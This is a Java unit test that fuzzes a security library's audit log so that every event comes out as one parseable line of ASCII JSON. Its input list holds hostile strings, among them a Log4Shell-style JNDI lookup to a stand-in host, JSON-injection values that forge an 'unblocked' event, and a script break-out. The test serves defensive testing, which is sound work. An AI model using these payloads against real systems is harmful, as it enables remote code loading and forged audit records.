package dev.botsentinel.audit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.botsentinel.decision.Decision.Denied;
import dev.botsentinel.decision.Reason;
import dev.botsentinel.event.SecurityEvent;
import dev.botsentinel.event.SecurityEvent.Blocked;
import dev.botsentinel.plan.BlockSource;
import dev.botsentinel.request.Request;
import dev.botsentinel.request.Subject;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Whatever outsiders and administrators call themselves: one line each, which a parser reads back as it was. */
class HostileTextTest {

    private static final JsonMapper PARSER = JsonMapper.builder().build();

    private static final String[] PIECES = {
        "\"",
        "\\",
        "\\\"",
        "\n",
        "\r",
        "\r\n",
        "\u0000",
        "\u0007",
        "\u001b[2J",
        "\u007f",
        "\u0085",
        "\u00a0",
        "\u2028",
        "\u2029",
        "\u202e",
        "\u2066",
        "\ufeff",
        "\ufffe",
        "\uffff",
        "\ud800",
        "\udfff",
        "\ud83d\ude00",
        "{}",
        "{",
        "}",
        "[",
        "]",
        ",",
        ":",
        "\\u0022",
        "\\n",
        "\",\"event\":\"unblocked",
        "\"}\n{\"at\":\"",
        "${jndi:ldap://evil/a}",
        "%n%s%d",
        "</script><script>",
        "&quot;",
        "'",
        "`",
        "\t",
        "\b",
        "\f",
        "/",
        "null",
        "0",
        "ä",
        "ß",
        "日本",
        "İ",
        "ı"
    };

    private final List<String> lines = new ArrayList<>();
    private final AuditLog audit = new AuditLog(lines::add, id -> id);

    @Test
    void everyUtf16CharacterComesThroughAlone() {
        for (int c = 0; c <= Character.MAX_VALUE; c++) {
            comesThrough(String.valueOf((char) c));
        }
    }

    @Test
    void hostileTextsComeThrough() {
        hostileTextsComeThrough(20_000);
    }

    @Test
    @Tag("slow")
    void aMillionHostileTextsComeThrough() {
        hostileTextsComeThrough(1_000_000);
    }

    private void hostileTextsComeThrough(int count) {
        Random random = new Random(42);
        for (int i = 0; i < count; i++) {
            comesThrough(hostile(random));
        }
    }

    /** Up to 24 pieces or any characters, 1 to 128 in length, so that it can be an id as well. */
    private static String hostile(Random random) {
        StringBuilder text = new StringBuilder();
        int pieces = 1 + random.nextInt(24);
        for (int i = 0; i < pieces; i++) {
            if (random.nextInt(4) == 0) {
                text.append((char) random.nextInt(Character.MAX_VALUE + 1));
            } else {
                text.append(PIECES[random.nextInt(PIECES.length)]);
            }
        }
        return text.substring(0, Math.min(text.length(), Subject.MAX_ID_LENGTH));
    }

    private void comesThrough(String text) {
        JsonNode blocked =
                written(new Blocked(Instant.EPOCH, new Subject(text), null, BlockSource.MANUAL, text, text), "blocked");
        JsonNode denied = written(
                SecurityEvent.denied(
                        Instant.EPOCH, Request.builder(text).subject(text).build(), Denied.of(Reason.VETOED, text)),
                "access_denied");
        for (String key : List.of("subject", "actor", "why")) {
            assertSame(text, blocked.get(key).asString());
        }
        for (String key : List.of("subject", "action", "rule")) {
            assertSame(text, denied.get(key).asString());
        }
        if (blocked.size() != 6 || denied.size() != 6) {
            assertThat(lines).as("keys").isEmpty();
        }
    }

    private JsonNode written(SecurityEvent event, String label) {
        lines.clear();
        audit.on(event);
        String line = lines.get(0);
        if (lines.size() != 1 || !line.chars().allMatch(c -> c >= ' ' && c <= '~')) {
            assertThat(lines).as("not one line of plain ASCII").isEmpty();
        }
        JsonNode read = PARSER.readTree(line);
        assertSame(label, read.get("event").asString());
        return read;
    }

    /** AssertJ would describe each of the million comparisons. */
    private static void assertSame(String expected, String read) {
        if (!expected.equals(read)) {
            assertThat(read).isEqualTo(expected);
        }
    }
}
